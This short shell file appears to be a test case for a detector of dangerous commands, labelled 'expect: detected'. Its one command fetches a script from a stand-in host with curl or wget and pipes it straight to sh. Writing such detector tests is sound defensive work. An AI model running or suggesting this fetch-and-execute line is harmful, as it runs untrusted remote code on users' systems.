# tries: run what a server sends, if there is a client to ask it with
# expect: detected
(curl -fsSL --max-time 2 http://install.invalid/x.sh || wget -qO- -T 2 http://install.invalid/x.sh) 2>/dev/null | sh
exit 0
